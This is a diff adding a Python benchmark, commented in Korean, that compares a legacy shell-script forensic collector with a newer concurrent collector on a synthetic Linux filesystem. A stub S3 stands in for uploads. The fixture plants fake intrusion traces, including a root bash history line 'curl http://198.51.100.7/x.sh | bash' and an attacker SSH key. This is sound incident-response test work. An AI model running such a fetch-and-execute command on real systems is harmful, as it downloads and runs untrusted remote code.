@@ -0,0 +1,265 @@
+"""포렌식 수집 비교: 기존 SSM 셸 스크립트 + aws s3 cp 15회 vs forensic_collector (AWS 호출 없음)
+
+샘플 파일시스템(ext4 이미지를 loop 마운트, 권한이 없으면 일반 디렉터리)에 Amazon Linux 2023과 비슷한
+구조(/bin → usr/bin 심볼릭 링크, 로그, 홈 디렉터리, 실행 파일 --binaries 개)를 만든 뒤 두 방식을 실행한다.
+
+  legacy    : 기존 lambda-ssm 명령(cat / find / sha256sum, /tmp에 저장)을 bash로 그대로 실행한 뒤,
+              lambda-s3처럼 파일마다 새 프로세스(CLI 기동 비용 = python + boto3 import)로 다시 읽어 업로드
+  collector : Collector.run() - 동시 수집 + 해시 프로세스 풀 + gzip 스트리밍 multipart 업로드
+
+S3는 요청당 --s3-latency 초와 --s3-mbps 대역폭을 흉내 내는 stub이다. 가능하면 실행 사이에 페이지 캐시를 비워
+(drop_caches) 디스크에서 처음 읽는 상황을 만든다. 수집 결과는 기존 방식과 내용(sha256)이 같은지 확인한다.
+
+    sudo python bench/forensic_collector_bench.py [--binaries 1500] [--log-mb 64]
+"""
+import argparse
+import gzip
+import hashlib
+import os
+import random
+import shutil
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+sys.path.insert(0, os.path.join(HERE, '..', 'collector'))
+
+import forensic_collector  # noqa: E402
+
+LEGACY_FILES = [
+    "syslog_copy.txt", "messages_copy.txt", "passwd_copy.txt", "shadow_copy.txt",
+    "group_copy.txt", "root_bash_history.txt", "user_bash_histories.txt",
+    "ssh_keys.txt", "tmp_dir_listing.txt", "var_tmp_dir_listing.txt",
+    "bin_hashes.txt", "usr_bin_hashes.txt", "hosts.txt", "resolv_conf.txt",
+    "hostname.txt"
+]
+
+
+def legacy_commands(mount_point, staging):
+    # 기존 lambda-ssm.py의 수집 명령 (sudo 제거, /tmp 대신 staging 디렉터리)
+    m, t = mount_point, staging
+    return [
+        f"cat {m}/var/log/syslog > {t}/syslog_copy.txt || echo 'No syslog'",
+        f"cat {m}/var/log/messages > {t}/messages_copy.txt || echo 'No messages'",
+        f"cat {m}/etc/passwd > {t}/passwd_copy.txt || echo 'No passwd'",
+        f"cat {m}/etc/shadow > {t}/shadow_copy.txt || echo 'No shadow'",
+        f"cat {m}/etc/group > {t}/group_copy.txt || echo 'No group'",
+        f"cat {m}/root/.bash_history > {t}/root_bash_history.txt || echo 'No root bash history'",
+        f"find {m}/home -name '.bash_history' -exec cat {{}} \\; > {t}/user_bash_histories.txt || echo 'No user bash histories'",
+        f"find {m}/home -name 'authorized_keys' -exec cat {{}} \\; > {t}/ssh_keys.txt || echo 'No authorized_keys'",
+        f"find {m}/root -name 'authorized_keys' -exec cat {{}} \\; >> {t}/ssh_keys.txt || echo 'No root ssh keys'",
+        f"ls -alhR {m}/tmp > {t}/tmp_dir_listing.txt || echo 'No /tmp dir'",
+        f"ls -alhR {m}/var/tmp > {t}/var_tmp_dir_listing.txt || echo 'No /var/tmp dir'",
+        f"sha256sum {m}/bin/* > {t}/bin_hashes.txt || echo 'No bin files'",
+        f"sha256sum {m}/usr/bin/* > {t}/usr_bin_hashes.txt || echo 'No usr/bin files'",
+        f"cat {m}/etc/hosts > {t}/hosts.txt || echo 'No hosts'",
+        f"cat {m}/etc/resolv.conf > {t}/resolv_conf.txt || echo 'No resolv.conf'",
+        f"cat {m}/etc/hostname > {t}/hostname.txt || echo 'No hostname'",
+    ]
+
+
+class StubS3:
+    """요청 지연 + 대역폭을 흉내 내고 업로드된 객체를 메모리에 보관하는 S3 stub (thread-safe)"""
+
+    def __init__(self, latency, mbps):
+        self.latency = latency
+        self.rate = mbps * 1024 * 1024
+        self.objects = {}
+        self.uploads = {}
+        self.requests = 0
+        self.bytes = 0
+        self.lock = threading.Lock()
+
+    def _io(self, size):
+        with self.lock:
+            self.requests += 1
+            self.bytes += size
+        time.sleep(self.latency + size / self.rate)
+
+    def put_object(self, Bucket, Key, Body, **kwargs):
+        self._io(len(Body))
+        self.objects[Key] = bytes(Body)
+        return {'ETag': '"x"'}
+
+    def create_multipart_upload(self, Bucket, Key, **kwargs):
+        self._io(0)
+        upload_id = f"u{len(self.uploads)}"
+        self.uploads[upload_id] = {}
+        return {'UploadId': upload_id}
+
+    def upload_part(self, Bucket, Key, UploadId, PartNumber, Body):
+        assert len(Body) >= 5 * 1024 * 1024 or PartNumber >= 1
+        self._io(len(Body))
+        self.uploads[UploadId][PartNumber] = bytes(Body)
+        return {'ETag': f'"{PartNumber}"'}
+
+    def complete_multipart_upload(self, Bucket, Key, UploadId, MultipartUpload):
+        self._io(0)
+        parts = self.uploads.pop(UploadId)
+        numbers = [p['PartNumber'] for p in MultipartUpload['Parts']]
+        assert numbers == sorted(parts)
+        # 마지막 파트를 제외한 모든 파트는 5 MiB 이상이어야 함 (S3 제한)
+        assert all(len(parts[n]) >= 5 * 1024 * 1024 for n in numbers[:-1])
+        self.objects[Key] = b''.join(parts[n] for n in numbers)
+
+    def abort_multipart_upload(self, Bucket, Key, UploadId):
+        self.uploads.pop(UploadId, None)
+
+
+def build_tree(root, rng, binaries, log_mb):
+    def write(rel, data):
+        path = os.path.join(root, rel)
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        with open(path, 'wb') as f:
+            f.write(data)
+
+    os.makedirs(os.path.join(root, "usr/bin"), exist_ok=True)
+    os.symlink("usr/bin", os.path.join(root, "bin"))          # Amazon Linux 2023 배치
+    # 실제 로그와 비슷한 압축률이 나오도록 시각 / PID / IP / 포트를 바꿔 가며 생성
+    lines, size = [], 0
+    while size < log_mb * 1024 * 1024:
+        line = (f"Oct 18 {rng.randrange(24):02d}:{rng.randrange(60):02d}:{rng.randrange(60):02d} ip-10-0-1-23 "
+                f"sshd[{rng.randrange(1, 65535)}]: Failed password for invalid user u{rng.randrange(10**6)} from "
+                f"{rng.randrange(1, 255)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(256)} "
+                f"port {rng.randrange(1024, 65535)} ssh2 {rng.randbytes(6).hex()}\n").encode()
+        lines.append(line)
+        size += len(line)
+    write("var/log/messages", b"".join(lines))
+    write("var/log/secure", b"".join(lines[:1000]))
+    write("etc/passwd", b"".join(f"user{i}:x:{1000 + i}:{1000 + i}::/home/user{i}:/bin/bash\n".encode()
+                                 for i in range(50)))
+    write("etc/shadow", b"root:*LOCK*:14600::::::\n" * 50)
+    write("etc/group", b"wheel:x:10:ec2-user\n" * 20)
+    write("etc/hosts", b"127.0.0.1 localhost\n")
+    write("etc/resolv.conf", b"nameserver 10.0.0.2\n")
+    write("etc/hostname", b"ip-10-0-1-23\n")
+    write("root/.bash_history", b"curl http://198.51.100.7/x.sh | bash\n" * 200)
+    write("root/.ssh/authorized_keys", b"ssh-ed25519 AAAA... attacker\n")
+    for i in range(20):
+        write(f"home/user{i}/.bash_history", b"ls -al\nsudo su -\n" * 500)
+        write(f"home/user{i}/.ssh/authorized_keys", f"ssh-ed25519 AAAA{i} user{i}\n".encode())
+    for i in range(300):
+        write(f"tmp/session-{i}/data", rng.randbytes(256))
+        write(f"var/tmp/cache-{i}", rng.randbytes(128))
+    total = 0
+    for i in range(binaries):
+        size = int(min(8 * 1024 * 1024, rng.lognormvariate(10.5, 1.3)))
+        write(f"usr/bin/tool{i:05d}", rng.randbytes(size))
+        total += size
+    os.symlink("tool00000", os.path.join(root, "usr/bin/tool-alias"))
+    os.symlink("/usr/bin/tool00001", os.path.join(root, "usr/bin/tool-abs"))   # 절대 경로 링크
+    return total
+
+
+def drop_caches():
+    try:
+        subprocess.run(["sync"], check=True)
+        with open("/proc/sys/vm/drop_caches", "w") as f:
+            f.write("3\n")
+        return True
+    except OSError:
+        return False
+
+
+def run_legacy(mount_point, staging, s3):
+    started = time.perf_counter()
+    script = "\n".join(legacy_commands(mount_point, staging))
+    subprocess.run(["bash", "-c", script], check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    collected = time.perf_counter()
+    # lambda-s3: 파일마다 aws s3 cp 프로세스 (기동 + 파일 다시 읽기) 후 업로드
+    for name in LEGACY_FILES:
+        path = os.path.join(staging, name)
+        subprocess.run([sys.executable, "-c",
+                        "import sys, boto3; open(sys.argv[1], 'rb').read()", path], check=True)
+        with open(path, 'rb') as f:
+            s3.put_object(Bucket="b", Key=f"legacy/{name}", Body=f.read())
+    staged = sum(os.path.getsize(os.path.join(staging, n)) for n in LEGACY_FILES)
+    return collected - started, time.perf_counter() - started, staged
+
+
+def mount_image(size_mb, path):
+    image = path + ".img"
+    subprocess.run(["truncate", "-s", f"{size_mb}M", image], check=True)
+    subprocess.run(["mkfs.ext4", "-q", "-F", image], check=True)
+    os.makedirs(path, exist_ok=True)
+    subprocess.run(["mount", "-o", "loop", image, path], check=True)
+    return image
+
+
+def main():
+    parser = argparse.ArgumentParser()
+    parser.add_argument("--binaries", type=int, default=1500)
+    parser.add_argument("--log-mb", type=int, default=64)
+    parser.add_argument("--workers", type=int, default=8)
+    parser.add_argument("--hash-workers", type=int, default=0)
+    parser.add_argument("--s3-latency", type=float, default=0.03)
+    parser.add_argument("--s3-mbps", type=float, default=100)
+    parser.add_argument("--no-loop", action="store_true", help="loop 마운트 대신 일반 디렉터리 사용")
+    parser.add_argument("--seed", type=int, default=1)
+    args = parser.parse_args()
+
+    work = tempfile.mkdtemp()
+    root = os.path.join(work, "mnt")
+    image = None
+    try:
+        if not args.no_loop:
+            try:
+                image = mount_image(args.binaries * 2 + args.log_mb * 2 + 256, root)
+            except (OSError, subprocess.CalledProcessError):
+                print("loop mount unavailable, using a plain directory")
+        os.makedirs(root, exist_ok=True)
+        binary_bytes = build_tree(root, random.Random(args.seed), args.binaries, args.log_mb)
+        if image:
+            subprocess.run(["mount", "-o", "remount,ro", root], check=True)
+        print(f"sample fs: {'ext4 loop image' if image else 'directory'}, {args.binaries} binaries "
+              f"({binary_bytes / 2**20:.0f} MiB), messages {args.log_mb} MiB, {os.cpu_count()} CPU(s)")
+
+        cold = drop_caches()
+        staging = os.path.join(work, "staging")
+        os.makedirs(staging)
+        legacy_s3 = StubS3(args.s3_latency, args.s3_mbps)
+        collect_s, total_s, staged = run_legacy(root, staging, legacy_s3)
+        print(f"  legacy   : collect {collect_s:6.2f}s + upload {total_s - collect_s:5.2f}s = {total_s:6.2f}s  "
+              f"ssm commands=2  staged on disk={staged / 2**20:.1f} MiB  "
+              f"s3 requests={legacy_s3.requests} uploaded={legacy_s3.bytes / 2**20:.1f} MiB"
+              f"{'  (cold cache)' if cold else ''}")
+
+        drop_caches()
+        s3 = StubS3(args.s3_latency, args.s3_mbps)
+        collector = forensic_collector.Collector(root, s3, "b", "new", workers=args.workers,
+                                                 hash_workers=args.hash_workers or None)
+        start = time.perf_counter()
+        manifest = collector.run()
+        elapsed = time.perf_counter() - start
+        raw = sum(e['bytes'] for e in manifest['artifacts'])
+        print(f"  collector: collect + upload {elapsed:6.2f}s  ssm commands=1  staged on disk=0.0 MiB  "
+              f"s3 requests={s3.requests} uploaded={s3.bytes / 2**20:.1f} MiB (raw {raw / 2**20:.1f} MiB)  "
+              f"ttfb={manifest['timing']['time_to_first_byte_seconds']:.2f}s  speedup={total_s / elapsed:.1f}x")
+
+        # 내용 검증: 파일 아티팩트는 바이트 단위로 같고, 해시 목록은 같은 (해시, 파일) 집합
+        for entry in manifest['artifacts']:
+            body = gzip.decompress(s3.objects[entry['key']])
+            assert hashlib.sha256(body).hexdigest() == entry['sha256'] and len(body) == entry['bytes'], entry
+            legacy = open(os.path.join(staging, entry['name']), 'rb').read()
+            if entry['name'].endswith('_hashes.txt'):
+                ours = {(l.split()[0], os.path.basename(l.split()[1])) for l in body.decode().splitlines()}
+                theirs = {(l.split()[0], os.path.basename(l.split()[1])) for l in legacy.decode().splitlines()}
+                # 기존 sha256sum은 절대 경로 링크(tool-abs)를 분석 인스턴스 쪽 경로로 따라가 놓침
+                assert theirs < ours and {f for _, f in ours - theirs} == {'tool-abs'}, entry['name']
+            elif 'listing' not in entry['name']:
+                assert body == legacy, entry['name']
+        assert 'new/manifest.json' in s3.objects and 'new/timing.json' in s3.objects
+        print(f"  verified {len(manifest['artifacts'])} artifacts against legacy output "
+              f"(+1 absolute symlink per hash list that legacy resolved on the host)")
+    finally:
+        if image:
+            subprocess.run(["umount", root], check=False)
+            os.remove(image)
+        shutil.rmtree(work, ignore_errors=True)
+
+
+if __name__ == "__main__":
+    main()